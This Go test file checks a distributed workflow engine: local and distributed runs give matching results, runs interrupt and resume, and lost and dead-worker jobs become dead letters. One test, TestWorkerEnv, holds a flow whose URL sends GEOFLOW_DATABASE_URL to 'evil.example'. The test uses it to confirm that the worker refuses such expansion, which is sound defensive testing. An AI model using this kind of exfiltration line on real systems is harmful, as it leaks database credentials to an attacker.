package engine

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/geoflow/geoflow/flows"

	"github.com/geoflow/geoflow/internal/testdb"
	"github.com/geoflow/geoflow/store"
	"github.com/geoflow/geoflow/store/postgis"
	"github.com/geoflow/geoflow/tasks"
)

// distFlow has what a distributed run must carry over from a local one: a unit that plans
// children, one that fails (a dead letter), one that lists a failed part and plans a
// child, and a downstream task.
const distFlow = `
name: dist
tasks:
  a: {type: fake, units: 60, split: 3, fail_units: [u005], fail_parts: [u007], sleep: 5ms}
  b: {type: fake, units: 12, sleep: 5ms, depends_on: [a]}
`

// pool starts n workers on the database at db, each with a store of its own as a
// process would have; stop ends them and waits.
func pool(t *testing.T, db string, reg *tasks.Registry, n int) (workers []*UnitWorker, stop func()) {
	t.Helper()
	return poolOf(t, db, n, func(string) *UnitWorker { return &UnitWorker{Registry: reg} })
}

// poolOf is pool with the workers newWorker makes for each id; their stores are set.
func poolOf(t *testing.T, db string, n int, newWorker func(id string) *UnitWorker) (workers []*UnitWorker, stop func()) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	for i := range n {
		st, err := postgis.Open(ctx, db, nil)
		if err != nil {
			t.Fatal(err)
		}
		id := fmt.Sprintf("w%d", i+1)
		w := newWorker(id)
		w.Store = storesOf(st)
		workers = append(workers, w)
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer st.Close()
			err := st.Work(ctx, store.WorkConfig{ID: id, Hostname: "test", Concurrency: 4, Grace: 5 * time.Second,
				RescueAfter: time.Minute, Stats: w.Stats}, w.Execute)
			if err != nil {
				t.Errorf("worker %s: %v", id, err)
			}
		}()
	}
	var once sync.Once
	stop = func() { once.Do(func() { cancel(); wg.Wait() }) }
	t.Cleanup(stop)
	return workers, stop
}

// unitStates lists a run's units as "task key state".
func unitStates(t *testing.T, db string, runID int64) []string {
	var out []string
	for _, r := range testdb.Query(t, db, "SELECT task, key, state FROM geoflow_units WHERE run_id = $1 ORDER BY task, key", runID) {
		out = append(out, fmt.Sprintf("%v %v %v", r[0], r[1], r[2]))
	}
	return out
}

func deadLetters(t *testing.T, db string, runID int64) []string {
	var out []string
	for _, r := range testdb.Query(t, db, "SELECT task, unit_key, error_class, status FROM geoflow_dlq WHERE run_id = $1 ORDER BY task, unit_key", runID) {
		out = append(out, fmt.Sprintf("%v %v %v %v", r[0], r[1], r[2], r[3]))
	}
	return out
}

// TestDistributedRunMatchesLocal runs one flow locally and on a pool of three workers:
// the same units end in the same states, with the same dead letters and totals, and every
// worker took a share.
func TestDistributedRunMatchesLocal(t *testing.T) {
	ctx := context.Background()
	reg := testRegistry(&recorder{})
	f := writeFlow(t, reg, distFlow)

	localDB := testdb.URL(t)
	local, err := Run(ctx, f, RunOptions{Store: storesOf(openStore(t, localDB))})
	if err != nil {
		t.Fatal(err)
	}

	db := testdb.URL(t)
	st := openStore(t, db)
	workers, stop := pool(t, db, reg, 3)
	prog := &Progress{}
	dist, err := Run(ctx, f, RunOptions{Store: storesOf(st), Distributed: true, Progress: prog})
	if err != nil {
		t.Fatal(err)
	}
	stop()

	if dist.Status != local.Status || dist.Status != store.Failed {
		t.Errorf("status: distributed %s, local %s; want failed (a dead unit)", dist.Status, local.Status)
	}
	if ls, ds := local.Summary, dist.Summary; ls.UnitsTotal != ds.UnitsTotal || ls.UnitsDone != ds.UnitsDone ||
		ls.UnitsDead != ds.UnitsDead || ls.Inserted != ds.Inserted {
		t.Errorf("summary: distributed %+v\nlocal %+v", ds, ls)
	}
	for id, st := range local.TaskStates {
		if dist.TaskStates[id] != st {
			t.Errorf("task %s: distributed %s, local %s", id, dist.TaskStates[id], st)
		}
	}
	if l, d := fmt.Sprint(unitStates(t, localDB, local.RunID)), fmt.Sprint(unitStates(t, db, dist.RunID)); l != d {
		t.Errorf("units differ:\ndistributed %s\nlocal       %s", d, l)
	}
	if l, d := fmt.Sprint(deadLetters(t, localDB, local.RunID)), fmt.Sprint(deadLetters(t, db, dist.RunID)); l != d || len(deadLetters(t, db, dist.RunID)) != 2 {
		t.Errorf("dead letters:\ndistributed %s\nlocal       %s", d, l)
	}
	var sum int64
	for i, w := range workers {
		s := w.Stats()
		if s.Done == 0 {
			t.Errorf("worker w%d executed no unit", i+1)
		}
		sum += s.Done + s.Failed
	}
	// Every unit of a ended once: 60 planned, 2 children, a part's child, and the part
	// its unit listed as failed (recorded, not run); b did not run, a having failed.
	if want := int64(64); sum != want {
		t.Errorf("workers executed %d units, want %d (each once)", sum, want)
	}
	var snap Snapshot
	for _, s := range prog.Snapshot() {
		if s.ID == "a" {
			snap = s
		}
	}
	if snap.Total != 64 || snap.Done != 62 || snap.Dead != 2 {
		t.Errorf("progress of task a: %+v, want 64 units, 62 done, 2 dead", snap)
	}
	if n := testdb.Int64(t, db, "SELECT count(*) FROM river_job WHERE state <> 'completed'"); n != 0 {
		t.Errorf("%d jobs left that did not complete", n)
	}
}

// TestDistributedInterruptAndResume interrupts a distributed run: its queued units are
// withdrawn, the run is interrupted with units left, and a resume (on the pool again)
// finishes it with every unit done once.
func TestDistributedInterruptAndResume(t *testing.T) {
	// No lost-unit recovery to lean on: the resume must enqueue what is open itself.
	defer func(d time.Duration) { stallAfter = d }(stallAfter)
	stallAfter = time.Hour
	rec := &recorder{}
	reg := testRegistry(rec)
	f := writeFlow(t, reg, `
name: dist_resume
tasks:
  a: {type: fake, units: 80, sleep: 40ms}
`)
	db := testdb.URL(t)
	st := openStore(t, db)
	_, stop := pool(t, db, reg, 2)
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		for len(rec.list()) < 10 {
			time.Sleep(5 * time.Millisecond)
		}
		cancel()
	}()
	res, err := Run(ctx, f, RunOptions{Store: storesOf(st), Distributed: true, Grace: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != store.Interrupted || res.Summary.UnitsDone >= 80 {
		t.Fatalf("first session: %s with %d units done, want interrupted with units left", res.Status, res.Summary.UnitsDone)
	}
	if n := testdb.Int64(t, db, "SELECT count(*) FROM river_job WHERE state IN ('available', 'scheduled', 'retryable')"); n != 0 {
		t.Errorf("%d queued jobs left after the interruption, want them withdrawn", n)
	}
	first := res.Summary.UnitsDone
	ctx, cancel = context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	res, err = Run(ctx, f, RunOptions{Store: storesOf(st), Resume: true})
	if err != nil {
		t.Fatal(err)
	}
	stop()
	if res.Status != store.Done || !res.Resumed || res.Summary.UnitsDone != 80 {
		t.Fatalf("resume: %s resumed=%v %d done, want done, 80", res.Status, res.Resumed, res.Summary.UnitsDone)
	}
	// Each unit executed once, whichever session: units in flight at the interruption
	// finished on their worker and were not executed again.
	seen := map[string]int{}
	for _, e := range rec.list() {
		if !strings.HasPrefix(e, "plan ") {
			seen[e]++
		}
	}
	for e, n := range seen {
		if n > 1 {
			t.Errorf("%s executed %d times", e, n)
		}
	}
	if executed := len(seen); executed != 80 {
		t.Errorf("%d units executed over both sessions, want 80 (first session had %d done)", executed, first)
	}
}

// TestDistributedNeedsQueue: a GeoPackage has no job queue.
func TestDistributedNeedsQueue(t *testing.T) {
	reg := testRegistry(nil)
	f := writeFlow(t, reg, distFlow)
	_, err := Run(context.Background(), f, RunOptions{Store: storesOf(openStore(t, t.TempDir()+"/x.gpkg")), Distributed: true})
	if !errors.Is(err, store.ErrNoQueue) {
		t.Fatalf("err %v, want ErrNoQueue", err)
	}
}

// TestDistributedLostUnits: a unit whose job the pool gave up (discarded after its
// attempts) becomes a worker_lost dead letter, and one whose job vanished is enqueued
// again; the run then ends with every other unit done.
func TestDistributedLostUnits(t *testing.T) {
	defer func(d time.Duration) { stallAfter = d }(stallAfter)
	stallAfter = time.Second
	reg := testRegistry(&recorder{})
	f := writeFlow(t, reg, `
name: dist_lost
tasks:
  a: {type: fake, units: 6}
`)
	db := testdb.URL(t)
	st := openStore(t, db)
	type outcome struct {
		res *Result
		err error
	}
	done := make(chan outcome, 1)
	go func() {
		res, err := Run(context.Background(), f, RunOptions{Store: storesOf(st), Distributed: true})
		done <- outcome{res, err}
	}()
	// No worker yet: the units wait in the queue. Give one up as the pool would after
	// ten workers died on it, and lose another's job altogether.
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the run's units were never enqueued")
		}
		if testdb.Int64(t, db, "SELECT count(*) FROM river_job WHERE state = 'available'") == 6 {
			break
		}
	}
	testdb.Exec(t, db, `UPDATE river_job SET state = 'discarded', attempt = 10, finalized_at = now(),
		errors = ARRAY['{"at": "2026-01-01T00:00:00Z", "attempt": 10, "error": "Stuck job rescued by JobRescuer", "trace": ""}'::jsonb]
		WHERE args->>'key' = 'u001'`)
	testdb.Exec(t, db, `DELETE FROM river_job WHERE args->>'key' = 'u002'`)
	_, stop := pool(t, db, reg, 1)
	defer stop()
	o := <-done
	if o.err != nil {
		t.Fatal(o.err)
	}
	if o.res.Status != store.Failed || o.res.Summary.UnitsDone != 5 || o.res.Summary.UnitsDead != 1 {
		t.Fatalf("run %s, %d done, %d dead; want failed with 5 done, 1 dead", o.res.Status, o.res.Summary.UnitsDone, o.res.Summary.UnitsDead)
	}
	rows := testdb.Query(t, db, "SELECT unit_key, error_class, error FROM geoflow_dlq")
	if len(rows) != 1 || rows[0][0] != "u001" || rows[0][1] != "worker_lost" || !strings.Contains(rows[0][2].(string), "after 10 attempts") {
		t.Errorf("dead letters %v, want u001 worker_lost after 10 attempts", rows)
	}
}

// TestWorkerEnv: a worker expands a recorded flow's variables from its environment, but
// never geoflow's own settings, which a flow written into the database could send away.
func TestWorkerEnv(t *testing.T) {
	t.Setenv("GEOFLOW_DATABASE_URL", "postgres://geoflow:hunter2@db/geoflow")
	t.Setenv("PARCELS_API_KEY", "k-123")
	if v, ok := workerEnv("GEOFLOW_DATABASE_URL"); ok || v != "" {
		t.Errorf("GEOFLOW_DATABASE_URL expanded on a worker: %q", v)
	}
	if v, ok := workerEnv("PARCELS_API_KEY"); !ok || v != "k-123" {
		t.Errorf("PARCELS_API_KEY: %q %v, want the worker's value", v, ok)
	}
	reg := testRegistry(nil)
	_, err := recordedFlow(store.RunInfo{ID: 1, Flow: "leak", FlowText: "name: leak\ntasks:\n  a: {type: fake, url: \"http://evil.example/?d=${GEOFLOW_DATABASE_URL}\"}\n"},
		flows.Options{Registry: reg, LookupEnv: workerEnv})
	if err == nil || strings.Contains(err.Error(), "hunter2") {
		t.Errorf("a recorded flow naming GEOFLOW_DATABASE_URL: err %v, want refused without the value", err)
	}
}

// TestDistributedDeadWorker: the units a worker held when it died (their jobs running
// under it, its reports stopped) go back to the pool once it has been silent for
// store.WorkerSilent, long before River's rescuer would take them (the workers'
// RescueAfter, a minute here): the run ends with every other unit executed once, and the
// unit whose attempts the dead worker spent is a worker_lost dead letter that names it.
func TestDistributedDeadWorker(t *testing.T) {
	defer func(d time.Duration) { stallAfter = d }(stallAfter)
	stallAfter = time.Second
	rec := &recorder{}
	reg := testRegistry(rec)
	f := writeFlow(t, reg, `
name: dist_dead
tasks:
  a: {type: fake, units: 12, sleep: 20ms}
`)
	db := testdb.URL(t)
	st := openStore(t, db)
	type outcome struct {
		res *Result
		err error
	}
	done := make(chan outcome, 1)
	go func() {
		res, err := Run(context.Background(), f, RunOptions{Store: storesOf(st), Distributed: true})
		done <- outcome{res, err}
	}()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the run's units were never enqueued")
		}
		if testdb.Int64(t, db, "SELECT count(*) FROM river_job WHERE state = 'available'") == 12 {
			break
		}
	}
	// The worker "gone" took four units and died just after its last report; one of
	// them had been taken nine times before.
	testdb.Exec(t, db, "INSERT INTO geoflow_workers (id, hostname, pid, concurrency) VALUES ('gone', 'test', 1, 4)")
	testdb.Exec(t, db, `UPDATE river_job SET state = 'running', attempted_at = now(), attempted_by = ARRAY['gone'],
		attempt = CASE WHEN args->>'key' = 'u003' THEN 10 ELSE 1 END WHERE args->>'key' IN ('u000', 'u001', 'u002', 'u003')`)
	died := time.Now()
	_, stop := pool(t, db, reg, 2)
	defer stop()
	var o outcome
	select {
	case o = <-done:
	case <-time.After(store.WorkerSilent + 2*store.WorkerReport + 15*time.Second):
		t.Fatalf("the run did not end within the dead worker's silence and a few reports")
	}
	if o.err != nil {
		t.Fatal(o.err)
	}
	if took := time.Since(died); took < store.WorkerSilent {
		t.Errorf("the run ended %s after the worker's last report: its units were taken before it was silent for %s", took, store.WorkerSilent)
	}
	if o.res.Status != store.Failed || o.res.Summary.UnitsDone != 11 || o.res.Summary.UnitsDead != 1 {
		t.Errorf("run %s, %d done, %d dead; want failed with 11 done, 1 dead", o.res.Status, o.res.Summary.UnitsDone, o.res.Summary.UnitsDead)
	}
	seen := map[string]int{}
	for _, e := range rec.list() {
		if !strings.HasPrefix(e, "plan ") {
			seen[e]++
		}
	}
	for e, n := range seen {
		if n != 1 {
			t.Errorf("%s executed %d times, want once", e, n)
		}
	}
	if len(seen) != 11 {
		t.Errorf("%d units executed, want 11", len(seen))
	}
	rows := testdb.Query(t, db, "SELECT unit_key, error_class, error FROM geoflow_dlq")
	if len(rows) != 1 || rows[0][0] != "u003" || rows[0][1] != "worker_lost" || !strings.Contains(rows[0][2].(string), "its worker gone was taken for dead") {
		t.Errorf("dead letters %v, want u003 worker_lost naming the dead worker", rows)
	}
	if n := testdb.Int64(t, db, "SELECT count(*) FROM geoflow_units WHERE attempts <> 1"); n != 0 {
		t.Errorf("%d units recorded more or less than one attempt", n)
	}
}
